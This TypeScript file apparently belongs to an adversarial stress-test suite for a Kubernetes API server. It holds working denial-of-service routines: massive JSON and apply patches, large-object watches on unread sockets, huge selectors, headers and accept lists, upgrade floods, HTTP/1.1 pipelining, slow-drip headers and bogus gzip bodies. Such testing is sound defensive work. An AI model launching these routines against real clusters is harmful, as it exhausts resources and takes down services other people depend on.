/** Attacks by what is rarely sent: long patches and applies, watches and lists of large objects, slow and odd connections. */
import { once } from "node:events";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { type Attack, type Attacker, NAMESPACE } from "./attack.js";
import { STRAY_ANSWERS } from "./stray-answers.js";
import { STRAY_BODIES } from "./stray-bodies.js";
import { CORE, DRY, MAP, MAPS, numbers, THINGS } from "./stray-places.js";

async function patchMap(attacker: Attacker, operations: readonly unknown[]): Promise<void> {
  await attacker.patch(MAP + DRY, "json-patch+json", JSON.stringify(operations));
}

const DEPLOYMENTS = `/apis/apps/v1/namespaces/${NAMESPACE}/deployments`;

function deploymentOf(name: string, env: readonly object[]): string {
  return JSON.stringify({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name },
    spec: {
      replicas: 0,
      selector: { matchLabels: { a: "b" } },
      template: {
        metadata: { labels: { a: "b" } },
        spec: { containers: [{ name: "c", image: "i", env }] },
      },
    },
  });
}

const OTHERS: readonly Attack[] = [
  {
    name: "json patch: 10,000 moves to and fro in a list of 9,000",
    async run(attacker) {
      const list = numbers(9_000).map((at) => `f.com/${at}`);
      const moves = numbers(9_990).map((at) =>
        at % 2
          ? { op: "move", from: "/metadata/finalizers/0", path: "/metadata/finalizers/-" }
          : { op: "move", from: "/metadata/finalizers/8999", path: "/metadata/finalizers/0" },
      );
      await patchMap(attacker, [
        { op: "add", path: "/metadata/finalizers", value: list },
        ...moves,
      ]);
    },
  },
  {
    name: "json patch: 9,900 removals at the front of a list",
    async run(attacker) {
      const list = numbers(9_900).map((at) => `f.com/${at}`);
      const removals = numbers(9_900).map(() => ({ op: "remove", path: "/metadata/finalizers/0" }));
      await patchMap(attacker, [
        { op: "add", path: "/metadata/finalizers", value: list },
        ...removals,
      ]);
    },
  },
  {
    name: "json patch: 9,900 members added and removed",
    async run(attacker) {
      const operations = numbers(9_900).map((at) => ({
        op: at % 2 ? "remove" : "add",
        path: `/data/k${at >> 1}`,
        value: "v",
      }));
      await patchMap(attacker, operations);
    },
  },
  {
    name: "json patch: pointers of 30,000 escapes",
    run: (attacker) =>
      patchMap(
        attacker,
        numbers(40).map(() => ({ op: "add", path: `/data/${"~1".repeat(30_000)}`, value: "v" })),
      ),
  },
  {
    name: "merge patch: 1e400 deep in an object",
    run: (attacker) =>
      attacker.patch(`${THINGS}/none`, "merge-patch+json", '{"any":{"a":[1e400]}}').then(() => {}),
  },
  {
    name: "strategic merge: 14,000 containers by name, one after the other",
    async run(attacker) {
      const body = `{"metadata":{"name":"strategic"},"spec":{"containers":[{"name":"c","image":"i"}]}}`;
      await attacker.post(`${CORE}/pods`, body);
      const containers = numbers(14_000).map((at) => ({ name: `c${at}`, image: "i" }));
      await attacker.many(3, 3, () =>
        attacker.patch(
          `${CORE}/pods/strategic${DRY}`,
          "strategic-merge-patch+json",
          JSON.stringify({ spec: { initContainers: containers } }),
        ),
      );
    },
  },
  {
    name: "strategic merge: a pod of 9,000 variables changed at each",
    async run(attacker) {
      const env = numbers(9_000).map((at) => ({ name: `E${at}`, value: "a" }));
      await attacker.post(`${CORE}/podtemplates`, "{}");
      await attacker.post(DEPLOYMENTS, deploymentOf("wide", env));
      const other = env.map(({ name }) => ({ name, value: "b" }));
      const body = JSON.stringify({
        spec: { template: { spec: { containers: [{ name: "c", env: other }] } } },
      });
      await attacker.many(4, 2, () =>
        attacker.patch(`${DEPLOYMENTS}/wide`, "strategic-merge-patch+json", body),
      );
    },
  },
  {
    name: "apply: 9,000 variables, forced from ten managers",
    async run(attacker) {
      for (const at of numbers(10)) {
        const env = numbers(9_000).map((n) => ({ name: `E${n}`, value: `${at}` }));
        await attacker.patch(
          `${DEPLOYMENTS}/forced?force=true&fieldManager=m${at}`,
          "apply-patch+yaml",
          deploymentOf("forced", env),
        );
      }
    },
  },
  {
    name: "apply: shrinks and grows a list of 20,000",
    async run(attacker) {
      for (const at of numbers(6)) {
        const finalizers = numbers(at % 2 ? 1 : 20_000).map((n) => `e.com/f${n}`);
        const body = {
          apiVersion: "v1",
          kind: "ConfigMap",
          metadata: { name: "breathes", finalizers },
        };
        await attacker.patch(
          `${MAPS}/breathes${DRY.replace("dryRun=All", "")}&force=true&fieldManager=m`,
          "apply-patch+yaml",
          JSON.stringify(body),
        );
      }
    },
  },
  {
    name: "updates of a custom object with 59,000 values, ten managers",
    async run(attacker) {
      await attacker.post(
        THINGS,
        `{"apiVersion":"adversary.example.com/v1","kind":"Thing","metadata":{"name":"big"},"any":{"a":0}}`,
      );
      for (const at of numbers(10)) {
        const any = Object.fromEntries(numbers(20_000).map((n) => [`k${n}`, at]));
        await attacker.send(`${THINGS}/big?fieldManager=u${at}`, {
          method: "PATCH",
          body: JSON.stringify({ any }),
          headers: { "content-type": "application/merge-patch+json" },
        });
      }
    },
  },
  {
    name: "lists of large objects as Tables",
    async run(attacker) {
      const data = { text: "z".repeat(900_000) };
      for (const at of numbers(12))
        await attacker.post(MAPS, JSON.stringify({ metadata: { name: `large-${at}` }, data }));
      await attacker.many(60, 30, (at) =>
        attacker.send(MAPS, {
          headers: {
            accept:
              at % 2
                ? "application/json;as=Table;v=v1;g=meta.k8s.io"
                : "application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io",
          },
        }),
      );
    },
  },
  {
    name: "lists of large objects in all encodings",
    run: (attacker) =>
      attacker.many(90, 30, (at) =>
        attacker.send(MAPS, {
          headers: {
            accept:
              [
                "application/json",
                "application/yaml",
                "application/cbor",
                "application/vnd.kubernetes.protobuf",
              ][at % 4] ?? "",
            "accept-encoding": at % 3 ? "gzip" : "",
          },
        }),
      ),
  },
  {
    name: "an object of 900 KB as YAML, 200 times",
    run: (attacker) =>
      attacker.many(200, 40, () =>
        attacker.send(`${MAPS}/large-1`, { headers: { accept: "application/yaml" } }),
      ),
  },
  {
    name: "watches from old revisions of large objects",
    async run(attacker) {
      // Versions that differ little are kept as their differences.
      const text = "w".repeat(1_000_000);
      const metadata = { name: "often-changed" };
      const { object } =
        (await attacker.post(MAPS, JSON.stringify({ metadata, data: { text } }))) ?? {};
      await attacker.many(60, 1, (at) =>
        attacker.patch(`${MAPS}/often-changed`, "merge-patch+json", `{"data":{"at":"${at}"}}`),
      );
      const from = object?.metadata.resourceVersion ?? "1";
      await attacker.many(100, 50, (at) =>
        attacker.send(
          `${MAPS}?watch=1&resourceVersion=${at % 2 ? 1 : from}&timeoutSeconds=${1 + (at % 3)}`,
        ),
      );
      await attacker.send(`${MAPS}/often-changed`, { method: "DELETE" });
    },
  },
  {
    name: "watches from old revisions that read nothing",
    async run(attacker) {
      const text = "w".repeat(1_000_000);
      const metadata = { name: "unread" };
      const { object } =
        (await attacker.post(MAPS, JSON.stringify({ metadata, data: { text } }))) ?? {};
      const from = Number(object?.metadata.resourceVersion ?? "1");
      const revisions: string[] = [`${from}`];
      await attacker.many(150, 1, async (at) => {
        const answer = await attacker.patch(
          `${MAPS}/unread`,
          "merge-patch+json",
          `{"data":{"at":"${at}"}}`,
        );
        revisions.push(answer?.object.metadata.resourceVersion ?? "1");
      });
      const sockets: TLSSocket[] = [];
      await attacker.many(300, 10, async (at) => {
        const socket = await openUnread(attacker);
        sockets.push(socket);
        const path = `${MAPS}?watch=1&resourceVersion=${revisions[at % 150]}&timeoutSeconds=30`;
        socket.write(
          `GET ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\n\r\n`,
        );
      });
      await new Promise((resolve) => setTimeout(resolve, 4_000));
      for (const socket of sockets) socket.destroy();
      await attacker.send(`${MAPS}/unread`, { method: "DELETE" });
    },
  },
  {
    name: "200 watches as Tables beside writes of large objects",
    async run(attacker) {
      const headers = { accept: "application/json;as=Table;v=v1;g=meta.k8s.io" };
      const body = JSON.stringify({ data: { text: "w".repeat(800_000) } });
      await Promise.all([
        attacker.many(200, 200, () =>
          attacker.send(`${MAPS}?watch=1&timeoutSeconds=3`, { headers }),
        ),
        attacker.many(6, 1, () => attacker.patch(`${MAPS}/large-1`, "merge-patch+json", body)),
      ]);
    },
  },
  {
    name: "deletion of all objects, dry run, ten at a time",
    async run(attacker) {
      const keys = numbers(6_000).map((at) => [`key-${at}`, "v".repeat(80)]);
      const data = Object.fromEntries(keys);
      await attacker.many(24, 4, (at) => {
        const metadata = { name: `heavy-${at}`, labels: { heavy: "yes" } };
        return attacker.post(MAPS, JSON.stringify({ metadata, data }));
      });
      await attacker.many(20, 10, () => attacker.send(MAPS + DRY, { method: "DELETE" }));
      await attacker.send(`${MAPS}?labelSelector=heavy%3Dyes`, { method: "DELETE" });
    },
  },
  {
    name: "2,000 objects made and deleted together",
    async run(attacker) {
      await attacker.many(2_000, 100, (at) =>
        attacker.post(`${CORE}/secrets`, `{"metadata":{"name":"s${at}"},"stringData":{"a":"b"}}`),
      );
      await attacker.send(`${CORE}/secrets`, { method: "DELETE" });
    },
  },
  {
    name: "selectors of 3,000 sets",
    run: (attacker) =>
      attacker.many(60, 20, () =>
        attacker.send(
          `${MAPS}?labelSelector=${encodeURIComponent(
            numbers(2_500)
              .map((at) => `k${at} in (a,b)`)
              .join(","),
          )}`,
        ),
      ),
  },
  {
    name: "a selector of 60,000 brackets",
    run: (attacker) =>
      attacker.many(60, 20, () => attacker.send(`${MAPS}?labelSelector=${"(".repeat(60_000)}`)),
  },
  {
    name: "a field selector of 60,000 backslashes",
    run: (attacker) =>
      attacker.many(60, 20, () =>
        attacker.send(`${MAPS}?fieldSelector=metadata.name=${"%5C".repeat(20_000)}`),
      ),
  },
  {
    name: "percent signs, 20,000 of them",
    run: (attacker) =>
      attacker.many(60, 20, () =>
        attacker.send(`${MAPS}?a=${"%25".repeat(20_000)}&${"%".repeat(1_000)}`),
      ),
  },
  {
    name: "continue tokens that say much",
    run: (attacker) =>
      attacker.many(100, 20, () =>
        attacker.send(
          `${MAPS}?limit=1&continue=${Buffer.from(JSON.stringify({ v: "meta.k8s.io/v1", rv: 1, start: "a".repeat(40_000) })).toString("base64url")}`,
        ),
      ),
  },
  {
    name: "headers of 100 KB, 400 times",
    run: (attacker) =>
      attacker.many(400, 40, () =>
        attacker.send(MAPS, {
          headers: Object.fromEntries(numbers(400).map((at) => [`x-h${at}`, "v".repeat(200)])),
        }),
      ),
  },
  {
    name: "accepts 5,000 types",
    run: (attacker) =>
      attacker.many(100, 20, () =>
        attacker.send(MAPS, {
          headers: {
            accept: numbers(5_000)
              .map((at) => `a/b${at};q=0.${at % 10}`)
              .join(","),
          },
        }),
      ),
  },
  {
    name: "accepts 5,000 codings",
    run: (attacker) =>
      attacker.many(100, 20, () =>
        attacker.send(MAPS, {
          headers: {
            "accept-encoding": numbers(8_000)
              .map((at) => `c${at};q=0.1`)
              .join(","),
          },
        }),
      ),
  },
  {
    name: "impersonates with 400 groups",
    run: (attacker) =>
      attacker.many(100, 20, () =>
        attacker.send(MAPS, {
          headers: {
            "impersonate-user": "u".repeat(10_000),
            "impersonate-group": numbers(400)
              .map((at) => `g${at}`)
              .join(","),
          },
        }),
      ),
  },
  {
    name: "exec and port-forward upgrades",
    run: (attacker) =>
      attacker.many(200, 40, (at) =>
        attacker.send(
          `${CORE}/pods/none/${["exec", "attach", "portforward"][at % 3]}?${"command=a&".repeat(5_000)}`,
          {
            headers: {
              connection: "Upgrade",
              upgrade: at % 2 ? "SPDY/3.1" : "websocket",
              "sec-websocket-version": "13",
              "sec-websocket-key": "AAAAAAAAAAAAAAAAAAAAAA==",
            },
          },
        ),
      ),
  },
  {
    name: "watches over websockets, frames of noise",
    run: (attacker) =>
      attacker.many(30, 30, () =>
        raw(
          attacker,
          `GET ${MAPS}?watch=1 HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
          Buffer.alloc(64_000, 0x89),
        ),
      ),
  },
  {
    name: "http/1.1: a thousand requests in a pipeline",
    run: (attacker) =>
      attacker.many(6, 6, () =>
        raw(
          attacker,
          "",
          Buffer.from(
            `GET ${MAPS}?limit=1 HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\n\r\n`.repeat(
              40,
            ),
          ),
        ),
      ),
  },
  {
    name: "http/1.1: a pipeline of nobody",
    run: (attacker) =>
      attacker.many(6, 6, () =>
        raw(attacker, "", Buffer.from(`GET ${MAPS} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(900))),
      ),
  },
  {
    name: "http/1.1: chunks of one byte",
    run: (attacker) =>
      attacker.many(6, 6, () =>
        raw(attacker, chunked(attacker), Buffer.from("1\r\n \r\n".repeat(10_000))),
      ),
  },
  {
    name: "http/1.1: chunks with extensions",
    run: (attacker) =>
      attacker.many(6, 6, () =>
        raw(attacker, chunked(attacker), Buffer.from(`1;${"e".repeat(10_000)}\r\n \r\n`.repeat(6))),
      ),
  },
  {
    name: "http/1.1: trailers without end",
    run: (attacker) =>
      attacker.many(6, 6, () =>
        raw(
          attacker,
          `${chunked(attacker)}2\r\n{}\r\n0\r\n`,
          Buffer.from("a: b\r\n".repeat(10_000)),
        ),
      ),
  },
  {
    name: "http/1.1: headers, a byte at a time",
    run: (attacker) => attacker.many(200, 200, () => drip(attacker)),
  },
  {
    name: "bodies that say gzip",
    isUnread: true,
    run: (attacker) =>
      attacker.many(20, 10, () =>
        attacker.send(MAPS, {
          method: "POST",
          body: Buffer.alloc(2_900_000, 0x1f),
          headers: { "content-type": "application/json", "content-encoding": "gzip" },
        }),
      ),
  },
  {
    name: "nobody asks for everything",
    run: (attacker) =>
      attacker.many(600, 60, (at) =>
        attacker.client
          .request(
            [
              "/openapi/v2",
              "/openapi/v3",
              "/api",
              "/apis",
              "/version",
              "/healthz?verbose",
              "/metrics",
            ][at % 7] ?? "/",
          )
          .catch(() => {}),
      ),
  },
  {
    name: "discovery in all forms, 300 times",
    run: (attacker) =>
      attacker.many(300, 60, (at) =>
        attacker.send(["/api", "/apis", "/openapi/v3", "/apis/apps/v1"][at % 4] ?? "/", {
          headers: {
            accept:
              at % 2
                ? "application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList"
                : "*/*",
            "accept-encoding": "gzip",
          },
        }),
      ),
  },
  {
    name: "bodies of nobody",
    run: (attacker) =>
      attacker.many(60, 20, () =>
        attacker.send(MAPS, {
          method: "POST",
          body: Buffer.alloc(2_900_000, 0x20),
          headers: { "content-type": "application/json", authorization: "" },
        }),
      ),
  },
];

const chunked = ({ token }: Attacker) =>
  `POST ${MAPS} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;

async function openHttp1({ client }: Attacker): Promise<TLSSocket> {
  const { hostname, port } = new URL(client.url);
  const socket = connectTls({ host: hostname, port: Number(port), ca: client.credentials.ca });
  socket.on("error", () => {});
  await once(socket, "secureConnect");
  return socket.resume();
}

/** Sends the head, then the piece again and again for a second and a half. */
async function raw(attacker: Attacker, head: string, piece: Buffer): Promise<void> {
  const socket = await openHttp1(attacker);
  socket.write(head);
  const endMs = performance.now() + 1_500;
  while (performance.now() < endMs && !socket.destroyed) {
    if (socket.write(piece)) await new Promise(setImmediate);
    else
      await Promise.race([
        once(socket, "drain").catch(() => {}),
        once(socket, "close").catch(() => {}),
        new Promise((resolve) => setTimeout(resolve, 1_500)),
      ]);
  }
  socket.destroy();
}

async function drip(attacker: Attacker): Promise<void> {
  const socket = await openHttp1(attacker);
  for (const letter of "GET /api HTTP/1.1\r\nHost: a\r\nX: ".repeat(2)) {
    socket.write(letter);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  socket.destroy();
}

export const STRAY_ATTACKS: readonly Attack[] = [...STRAY_BODIES, ...STRAY_ANSWERS, ...OTHERS].map(
  (attack) => ({
    ...attack,
    name: `stray: ${attack.name}`,
  }),
);

/** A connection of HTTP/1.1 whose client takes nothing from its kernel. */
async function openUnread({ client }: Attacker): Promise<TLSSocket> {
  const { hostname, port } = new URL(client.url);
  const { ca } = client.credentials;
  const socket = connectTls({ host: hostname, port: Number(port), ca });
  socket.on("error", () => {});
  await once(socket, "secureConnect");
  socket.pause();
  return socket;
}
